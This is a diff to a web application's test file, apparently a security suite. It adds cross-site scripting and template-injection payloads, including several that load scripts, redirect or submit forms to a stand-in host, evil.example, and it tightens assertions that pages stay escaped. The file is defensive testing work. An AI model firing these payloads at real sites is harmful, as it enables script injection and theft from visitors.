@@ -16,8 +16,23 @@ PAYLOADS = (
     "javascript:alert(1)",
     "</title><script>alert(1)</script>",
     "\u202egnp.exe\u2066<b>\x00\x08",
+    "<ScRiPt/src=//evil.example/x.js>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<math><mi xlink:href=javascript:alert(1)>x",
+    "<a href=JaVaScRiPt:alert(1)>x</a>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "</textarea></select><form action=//evil.example><button>",
+    '<div hx-get="//evil.example" hx-trigger="load">',
+    "${alert(1)}<%= 7*7 %>`",
 )
-KNOWN = {"svg", "line", "text", "circle", "g", "title"}
+KINDLY = ("/", "#", "?", "https://example.org/", "https://www.federalregister.gov/")
+METAS = 5  # of the base template
 ADDRESSES = (
     "/notices/{n}",
     "/cases/c-bad",
@@ -153,9 +168,9 @@ def test_hostile_text_stays_text_on_every_page(client, poisoned, prefix):
         assert len(seen.scripts) == 2 and all(s.startswith("/static/") for s in seen.scripts), address
         assert not seen.handlers
         assert "img" not in seen.tags
-        assert all((link or "").startswith(("/", "#", "https://example.org/")) for link in seen.links), (
-            address
-        )
+        assert all((link or "").startswith(KINDLY) for link in seen.links), address
+        assert not {"iframe", "base", "math", "textarea"} & set(seen.tags), address
+        assert seen.tags.count("meta") == METAS, address
         assert "49" not in [w.strip() for w in seen.words if "{{7*7}}" in poisoned.bad], (
             "rendered as a template"
         )
@@ -178,7 +193,7 @@ def test_what_a_visitor_types_stays_text(client, payload):
         seen = Seen(answer.text)
         assert len(seen.scripts) == 2
         assert not seen.handlers
-        assert all((link or "").startswith(("/", "#", "https://example.org/")) for link in seen.links)
+        assert all((link or "").startswith(KINDLY) for link in seen.links)
 
 
 def test_an_address_that_is_not_there_is_not_repeated_as_markup(client):
@@ -193,6 +208,10 @@ def test_templates_never_switch_escaping_off(root):
             assert "|safe" not in text.replace("|safe_url", "") and "autoescape" not in text, path
         if path.suffix == ".py":
             assert "Markup(" not in path.read_text(encoding="utf-8"), path
+
+
+def test_there_are_enough_ways_of_attack():
+    assert len(set(PAYLOADS)) >= 20
 
 
 def test_the_first_and_last_of_all_days_do_not_break_a_page(client, services, make):
